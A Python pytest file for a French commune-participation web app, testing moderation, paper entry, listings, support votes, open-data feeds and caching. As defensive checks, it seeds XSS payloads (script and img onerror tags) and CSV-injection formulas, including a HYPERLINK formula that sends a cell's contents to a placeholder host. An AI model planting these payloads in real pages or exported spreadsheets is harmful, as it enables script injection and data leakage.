"""Moderation, paper entry, the public list and page, supports, and open data."""

import csv
import io
import json
import threading
import time

import pytest
from sqlalchemy import select, update

from revital.communes.models import Commune
from revital.contributions import feeds
from revital.contributions.models import Contribution, ModerationDecision, Support
from revital.contributions.rules import DEFAULT_CATEGORIES
from revital.contributions.services import published_changed
from tests.conftest import (
    MAIN,
    PERSONAS,
    csrf_token,
    get,
    make_client,
    post,
    sign_in_as,
    text_of,
)
from tests.dom import parse

QUEUE = f"/communes/{MAIN}/gestion/moderation"
ENTRY = f"/communes/{MAIN}/gestion/saisie"
LIST = f"/communes/{MAIN}/contributions"


def one(db, title):
    with db.session() as session:
        return session.scalar(select(Contribution).where(Contribution.title == title))


def add(db, title="Titre <script>alert(1)</script>", status="published", **fields):
    with db.transaction() as session:
        commune = session.scalar(select(Commune).where(Commune.slug == MAIN))
        c = Contribution(commune_id=commune.id, kind=fields.get("kind", "weakness"), category="mobilite", title=title,
                         body=fields.get("body", "Corps <img src=x onerror=alert(1)>"), lon=fields.get("lon", 3.5641),
                         lat=fields.get("lat", 44.4566), phase="emergence", status=status,
                         author_name=fields.get("author_name", "Pseudo"), author_email="secret@example.fr",
                         submission_token=f"t-{title}"[:60])
        session.add(c)
        if status == "published":
            published_changed(session, commune.id, +1)
        session.flush()
        return c.id


@pytest.mark.parametrize("persona, status", [
    ("anonymous", 303), ("resident", 403), ("student", 403), ("partner", 403), ("facilitator", 200),
    ("admin", 200), ("other_admin", 403), ("coordinator", 200),
])
def test_moderation_and_entry_access(as_persona, persona, status):
    client = as_persona(persona)
    assert get(client, QUEUE).status_code == status
    assert get(client, ENTRY).status_code == status


def test_queue_lists_pending_first_and_publishing_makes_public(client, db):
    sign_in_as(client, PERSONAS["facilitator"])
    text = text_of(get(client, QUEUE).text)
    assert "En attente (2)" in text and "Un marché de producteurs le samedi" in text
    pending = one(db, "Un marché de producteurs le samedi")
    response = post(client, f"{QUEUE}/{pending.id}/publish", {"statut": "pending"})
    assert response.status_code == 303
    assert response.headers["location"] == f"{QUEUE}?statut=pending&ok=moderation-publish"
    published = one(db, "Un marché de producteurs le samedi")
    assert published.status == "published" and published.published_at is not None
    with db.session() as session:
        [decision] = session.scalars(select(ModerationDecision).where(ModerationDecision.contribution_id == pending.id)).all()
    assert (decision.action, decision.user_name) == ("publish", "Lucie (animatrice)")
    assert "Un marché de producteurs le samedi" in text_of(get(client, LIST).text)


def test_reject_and_hide_need_a_reason(client, db):
    sign_in_as(client, PERSONAS["admin"])
    pending = one(db, "La fête du village en août")
    response = post(client, f"{QUEUE}/{pending.id}/reject", {"reason": ""})
    assert response.status_code == 422
    assert "Indiquez le motif" in text_of(response.text)
    assert one(db, "La fête du village en août").status == "pending"
    assert post(client, f"{QUEUE}/{pending.id}/reject", {"reason": "Doublon d’une autre contribution"}).status_code == 303
    assert one(db, "La fête du village en août").status == "rejected"
    public = one(db, "La boulangerie a fermé")
    assert post(client, f"{QUEUE}/{public.id}/hide", {"reason": "Propos injurieux signalé"}).status_code == 303
    assert one(db, "La boulangerie a fermé").status == "hidden"
    assert "La boulangerie a fermé" not in text_of(get(client, LIST).text)


def test_a_decision_already_taken_is_refused(client, db):
    sign_in_as(client, PERSONAS["facilitator"])
    pending = one(db, "La fête du village en août")
    assert post(client, f"{QUEUE}/{pending.id}/publish").status_code == 303
    again = post(client, f"{QUEUE}/{pending.id}/publish")
    assert again.status_code == 422
    assert "elle a peut-être déjà été traitée" in text_of(again.text)


def test_moderator_cannot_touch_another_commune(client, db):
    sign_in_as(client, PERSONAS["facilitator"])
    other = one(db, "Transformer une grange en logements pour jeunes")  # Grandrieu
    assert post(client, f"{QUEUE}/{other.id}/publish").status_code == 404
    assert one(db, "Transformer une grange en logements pour jeunes").status == "pending"


def test_paper_entry_one_after_another(client, db):
    sign_in_as(client, PERSONAS["facilitator"])
    page = get(client, ENTRY)
    token = page.text.split('name="token" value="')[1].split('"')[0]
    data = {"token": token, "kind": "weakness", "category": "mobilite", "title": "Trottoirs trop étroits",
            "where": "none", "author_name": "Fiche n° 12"}
    response = post(client, ENTRY, data)
    assert response.status_code == 303
    c = one(db, "Trottoirs trop étroits")
    assert (c.source, c.status, c.author_name) == ("workshop", "published", "Fiche n° 12")
    assert response.headers["location"] == f"{ENTRY}?ok=saisie&numero={c.id}"
    following = get(client, response.headers["location"])
    assert f"Contribution n° {c.id} enregistrée et publiée." in text_of(following.text)
    assert 'value="Trottoirs trop étroits"' not in following.text  # a blank form for the next one
    assert post(client, ENTRY, data).status_code == 303  # the same sheet twice stays one
    with db.session() as session:
        assert len(session.scalars(select(Contribution).where(Contribution.title == "Trottoirs trop étroits")).all()) == 1


def test_list_filters_and_pagination(client, db):
    text = text_of(get(client, LIST).text)
    assert "9 contributions publiées, de la plus récente à la plus ancienne." in text
    assert "Les voitures" not in text  # the list shows titles, the page the text
    weak = text_of(get(client, f"{LIST}?kind=weakness").text)
    assert "4 contributions publiées pour ces filtres" in weak and "La boulangerie a fermé" in weak
    assert "Des bancs et de l’ombre sur la place" not in weak
    mob = text_of(get(client, f"{LIST}?category=mobilite").text)
    assert "2 contributions publiées pour ces filtres" in mob
    for i in range(25):
        add(db, title=f"Synthétique {i:02d}")
    first = parse(get(client, LIST).text)
    titles = [a.text() for a in first.find("ul", class_="contribution-list").find_all("a")]
    assert titles == [f"Synthétique {i:02d}" for i in range(24, 4, -1)]  # the newest first, 20 a page
    assert first.find("a", rel="prev") is None
    older = first.find("a", rel="next")
    assert older.text() == "Contributions plus anciennes"
    second = parse(get(client, LIST + older.get("href")).text)
    titles = [a.text() for a in second.find("ul", class_="contribution-list").find_all("a")]
    assert titles[:5] == [f"Synthétique {i:02d}" for i in range(4, -1, -1)] and len(titles) == 14
    assert second.find("a", rel="next") is None
    newer = second.find("a", rel="prev")
    assert newer.text() == "Contributions plus récentes"
    back = parse(get(client, LIST + newer.get("href")).text)
    assert [a.text() for a in back.find("ul", class_="contribution-list").find_all("a")][0] == "Synthétique 24"
    filtered = parse(get(client, f"{LIST}?kind=weakness").text)  # 4 of the demo and the 25 added
    assert "29 contributions publiées pour ces filtres" in filtered.text()
    assert filtered.find("a", rel="next").get("href").startswith("?kind=weakness&avant=")


def test_list_fragment_for_htmx(client):
    response = get(client, f"{LIST}?kind=idea", headers={"HX-Request": "true"})
    assert response.status_code == 200
    assert response.text.lstrip().startswith('<div id="contribution-rows">') and "<html" not in response.text
    assert response.headers["vary"] == "HX-Request"


def test_contribution_page(client, db):
    c = one(db, "La traversée du bourg est dangereuse")
    text = text_of(get(client, f"{LIST}/{c.id}").text)
    for words in ("Point faible", "Mobilité et stationnement", "Par Parents d’élèves", "École",
                  "21 personnes soutiennent cette contribution.", "Moi aussi", "Ce qu’elle est devenue"):
        assert words in text


def test_pending_contribution_is_not_public(client, db):
    c = one(db, "La fête du village en août")
    assert get(client, f"{LIST}/{c.id}").status_code == 404
    assert get(client, f"{LIST}/{c.id}/carte").status_code == 404
    sign_in_as(client, PERSONAS["facilitator"])
    assert "Cette contribution n’est pas publique" in text_of(get(client, f"{LIST}/{c.id}").text)


def test_support_once_per_browser(client, db):
    c = one(db, "Les berges du Bramont")
    before = c.supports_count
    first = post(client, f"{LIST}/{c.id}/soutenir")
    assert first.status_code == 303
    cookie = [h for h in first.headers.get_list("set-cookie") if h.startswith("revital_voter=")][0].lower()
    assert "httponly" in cookie and "secure" in cookie and "max-age=31536000" in cookie
    assert post(client, f"{LIST}/{c.id}/soutenir").status_code == 303
    assert one(db, "Les berges du Bramont").supports_count == before + 1
    page = text_of(get(client, f"{LIST}/{c.id}").text)
    assert "Vous soutenez cette contribution." in page and "Moi aussi" not in page


def test_support_once_per_account_and_with_htmx(client, db):
    c = one(db, "Les berges du Bramont")
    sign_in_as(client, PERSONAS["resident"])
    response = post(client, f"{LIST}/{c.id}/soutenir", headers={"HX-Request": "true"})
    assert response.status_code == 200 and response.text.lstrip().startswith('<div id="soutien"')
    again = post(client, f"{LIST}/{c.id}/soutenir", headers={"HX-Request": "true"})
    assert "Votre soutien était déjà compté." in text_of(again.text)
    assert one(db, "Les berges du Bramont").supports_count == c.supports_count + 1


def test_cannot_support_a_pending_contribution(client, db):
    c = one(db, "La fête du village en août")
    assert post(client, f"{LIST}/{c.id}/soutenir").status_code == 404


def run_concurrently(count, target):
    errors, threads = [], []

    def wrapped(i):
        try:
            target(i)
        except Exception as error:  # noqa: BLE001
            errors.append(error)

    for i in range(count):
        threads.append(threading.Thread(target=wrapped, args=(i,)))
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return errors


def test_32_concurrent_supports_count_exactly(settings, db):
    c = one(db, "Les berges du Bramont")
    clients = [make_client(settings).__enter__() for _ in range(32)]
    for client in clients:
        csrf_token(client)
    statuses = []
    errors = run_concurrently(32, lambda i: statuses.append(post(clients[i], f"{LIST}/{c.id}/soutenir").status_code))
    errors += run_concurrently(32, lambda i: statuses.append(post(clients[i], f"{LIST}/{c.id}/soutenir").status_code))
    for client in clients:
        client.__exit__(None, None, None)
    assert errors == [] and statuses == [303] * 64
    assert one(db, "Les berges du Bramont").supports_count == c.supports_count + 32
    with db.session() as session:
        assert len(session.scalars(select(Support).where(Support.contribution_id == c.id)).all()) == 32


def test_32_concurrent_submissions_lose_nothing(settings, db):
    from revital.contributions import rules
    from tests.test_contributions import form, send

    clients = [make_client(settings, contributions_per_hour=1000).__enter__() for _ in range(32)]
    for client in clients:
        csrf_token(client)
    forms = [form(db, title=f"Concurrente {i:02d}", token=rules.new_form_token(settings.secret_key)) for i in range(32)]
    statuses = []
    errors = run_concurrently(32, lambda i: statuses.append(send(clients[i], forms[i]).status_code))
    # The same 32 forms sent again at once: nothing doubled.
    errors += run_concurrently(32, lambda i: statuses.append(send(clients[i], forms[i]).status_code))
    for client in clients:
        client.__exit__(None, None, None)
    assert errors == [] and statuses == [303] * 64
    with db.session() as session:
        titles = session.scalars(select(Contribution.title).where(Contribution.title.like("Concurrente %"))).all()
    assert sorted(titles) == [f"Concurrente {i:02d}" for i in range(32)]


def test_geojson_feed_is_small_public_and_cached(client, db):
    response = get(client, f"/api/communes/{MAIN}/contributions.geojson")
    assert response.status_code == 200 and response.headers["content-type"].startswith("application/geo+json")
    data = response.json()
    features = data["features"]
    assert len(features) == 8  # published with a position; without one they are only in the CSV
    assert all(set(f["properties"]) == {"k", "c"} and isinstance(f["id"], int) for f in features)
    assert {f["properties"]["k"] for f in features} == {"a", "w", "i"}
    per_feature = (len(response.content) - len(json.dumps({**data, "features": []}, separators=(",", ":")))) / len(features)
    assert per_feature < 130
    etag = response.headers["etag"]
    assert get(client, f"/api/communes/{MAIN}/contributions.geojson", headers={"If-None-Match": etag}).status_code == 304
    add(db, title="Nouvelle")
    assert get(client, f"/api/communes/{MAIN}/contributions.geojson", headers={"If-None-Match": etag}).status_code == 200


def test_csv_opens_in_a_french_spreadsheet(client, db):
    response = get(client, f"/api/communes/{MAIN}/contributions.csv")
    assert response.status_code == 200
    assert response.content.startswith("\ufeff".encode())
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:4] == ["id", "url", "kind", "kind_label"]
    assert len(rows) == 1 + 9
    titles = [row[6] for row in rows[1:]]
    assert "Plus de médecin depuis 2013" in titles and "Un marché de producteurs le samedi" not in titles


def test_csv_content_type_is_said_once(client):
    response = get(client, f"/api/communes/{MAIN}/contributions.csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"


FORMULAS = ['=HYPERLINK("http://x/?"&A1,"Cliquez")', "+33 cmd", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def test_csv_neutralises_formulas_in_every_text_column(client, db):
    """OWASP CSV injection: a leading ' in every text cell that a spreadsheet would run."""
    with db.transaction() as session:
        session.execute(update(Commune).where(Commune.slug == MAIN)
                        .values(categories=json.dumps({"mobilite": FORMULAS[0]}, ensure_ascii=False)))
    ids = {}
    for i, formula in enumerate(FORMULAS):
        ids[formula] = add(db, title=formula, body=formula, author_name=formula)
        with db.transaction() as session:
            session.execute(update(Contribution).where(Contribution.id == ids[formula]).values(place_name=formula))
    response = get(client, f"/api/communes/{MAIN}/contributions.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    by_id = {int(row["id"]): row for row in rows}
    numeric = {"id", "longitude", "latitude", "supports"}
    for formula, cid in ids.items():
        row = by_id[cid]
        for column in ("title", "text", "author", "place"):
            assert row[column] == "'" + formula, column
        assert row["category_label"] == "'" + FORMULAS[0]
        for column, value in row.items():
            if column not in numeric:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), column
        assert float(row["longitude"]) == 3.5641 and row["supports"] == "0"
    plain = next(row for row in rows if row["title"] == "La boulangerie a fermé")
    assert plain["title"] == "La boulangerie a fermé"  # nothing else changes


def test_support_counts_in_open_data_lag_a_minute_at_most(client, db, monkeypatch):
    cid = next(f["id"] for f in get(client, f"/api/communes/{MAIN}/contributions.geojson?details=1").json()["features"]
               if f["properties"]["title"] == "La boulangerie a fermé")
    csv_url = f"/api/communes/{MAIN}/contributions.csv"
    before = get(client, csv_url)
    assert int(before.headers["cache-control"].split("max-age=")[1]) <= 30
    assert post(client, f"{LIST}/{cid}/soutenir").status_code == 303
    now = time.time()
    monkeypatch.setattr("revital.contributions.feeds.time.time", lambda: now + feeds.SUPPORTS_LAG)
    after = get(client, csv_url, headers={"If-None-Match": before.headers["etag"]})
    assert after.status_code == 200
    row = next(r for r in csv.DictReader(io.StringIO(after.content.decode("utf-8-sig")), delimiter=";") if int(r["id"]) == cid)
    assert row["supports"] == "15"
    details = get(client, f"/api/communes/{MAIN}/contributions.geojson?details=1").json()["features"]
    assert next(f for f in details if f["id"] == cid)["properties"]["supports"] == 15


def test_open_data_version_moves_every_lag_period():
    lag = feeds.SUPPORTS_LAG
    assert feeds.open_data_version("1-2-3", 10 * lag) == feeds.open_data_version("1-2-3", 11 * lag - 1)
    assert feeds.open_data_version("1-2-3", 10 * lag) != feeds.open_data_version("1-2-3", 11 * lag)


def test_no_personal_data_in_public_outputs(client, db):
    add(db, title="Avec une adresse")
    for path in (LIST, f"/api/communes/{MAIN}/contributions.geojson", f"/api/communes/{MAIN}/contributions.csv",
                 f"/api/communes/{MAIN}/commune.geojson"):
        body = get(client, path).text
        assert "secret@example.fr" not in body and "@" not in body.replace("&#64;", ""), path
    c = one(db, "Avec une adresse")
    page = get(client, f"{LIST}/{c.id}").text
    assert "secret@example.fr" not in page


def test_resident_text_is_escaped_everywhere(client, db):
    cid = add(db)
    raw = "<script>alert(1)</script>"
    sign_in_as(client, PERSONAS["facilitator"])
    for path in (LIST, f"{LIST}/{cid}", f"{LIST}/{cid}/carte", f"{QUEUE}?statut=published"):
        html = get(client, path).text
        assert raw not in html and "<img src=x" not in html, path
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, path


def test_commune_page_links_to_contributing(client):
    html = get(client, f"/communes/{MAIN}").text
    assert f'href="/communes/{MAIN}/contribuer"' in html
    assert "Les contributions des habitants, en liste (9)" in text_of(html)


def test_geojson_phase_filter_and_details(client, db):
    assert get(client, f"/api/communes/{MAIN}/contributions.geojson?phase=feasibility").json()["features"] == []
    assert len(get(client, f"/api/communes/{MAIN}/contributions.geojson?phase=diagnostic").json()["features"]) == 8
    details = get(client, f"/api/communes/{MAIN}/contributions.geojson?details=1").json()["features"]
    assert len(details) == 9  # those without a position too, with a null geometry
    record = next(f for f in details if f["properties"]["title"] == "La boulangerie a fermé")
    assert record["properties"]["kind_label"] == "Point faible" and record["properties"]["supports"] == 14
    assert record["properties"]["url"].endswith(f"/communes/{MAIN}/contributions/{record['id']}")
    assert next(f for f in details if f["properties"]["title"] == "Plus de médecin depuis 2013")["geometry"] is None


def test_commune_adjusts_participation_settings(client, db):
    sign_in_as(client, PERSONAS["admin"])
    response = post(client, f"/communes/{MAIN}/gestion/participation",
                    {"moderation": "a_posteriori", "need_account": "1", "new_themes": "Commerce et activités\nFêtes et marchés\n",
                     "themes": "commerce", "label-commerce": "Commerce et activités"})
    assert response.status_code == 422  # "Commerce et activités" exists already
    assert "Le thème « Commerce et activités » existe déjà." in text_of(response.text)
    response = post(client, f"/communes/{MAIN}/gestion/participation",
                    {"moderation": "a_posteriori", "need_account": "1", "new_themes": "Fêtes et marchés\n"})
    assert response.status_code == 303
    with db.session() as session:
        commune = session.scalar(select(Commune).where(Commune.slug == MAIN))
        assert (commune.moderation, commune.contributions_need_account) == ("a_posteriori", True)
        assert json.loads(commune.categories) == {**DEFAULT_CATEGORIES, "fetes-et-marches": "Fêtes et marchés"}
    form = text_of(get(client, f"/communes/{MAIN}/contribuer").text)
    assert "Fêtes et marchés" in form and "Logement" in form
    bad = post(client, f"/communes/{MAIN}/gestion/participation", {"moderation": "a_priori", "new_themes": "A\nA"})
    assert bad.status_code == 422 and "Le thème « A » apparaît deux fois." in text_of(bad.text)


def test_facilitator_cannot_change_participation_settings(client, db):
    sign_in_as(client, PERSONAS["facilitator"])
    assert post(client, f"/communes/{MAIN}/gestion/participation", {"moderation": "a_posteriori"}).status_code == 403


def test_anonymous_pages_come_from_the_cache_with_each_visitors_token(settings, db):
    c = one(db, "Les berges du Bramont")
    url = f"{LIST}/{c.id}"
    with make_client(settings) as first, make_client(settings) as second:
        page_one = get(first, url)
        page_two = get(second, url)
        assert page_one.status_code == page_two.status_code == 200
        token_one = page_one.text.split('name="_csrf_token" value="')[1].split('"')[0]
        token_two = page_two.text.split('name="_csrf_token" value="')[1].split('"')[0]
        assert token_one != token_two and "placeholder" not in page_one.text
        assert token_one == first.cookies["revital_csrf"]
        # The cached page's form works: the visitor's own token is in it.
        assert post(first, f"{url}/soutenir").status_code == 303
        with db.transaction() as session:
            session.execute(update(Contribution).where(Contribution.id == c.id).values(title="Changé en base"))
        assert "Changé en base" not in get(second, url).text  # served from the cache for a few seconds
        first.app.state.pages.clear()
        second.app.state.pages.clear()
        assert "Changé en base" in get(second, url).text


def test_hiding_drops_the_cached_page(client, db):
    c = one(db, "La boulangerie a fermé")
    assert get(client, f"{LIST}/{c.id}").status_code == 200

    sign_in_as(client, PERSONAS["facilitator"])
    assert post(client, f"{QUEUE}/{c.id}/hide", {"reason": "Propos injurieux signalé"}).status_code == 303
    post(client, "/deconnexion")
    assert get(client, f"{LIST}/{c.id}").status_code == 404
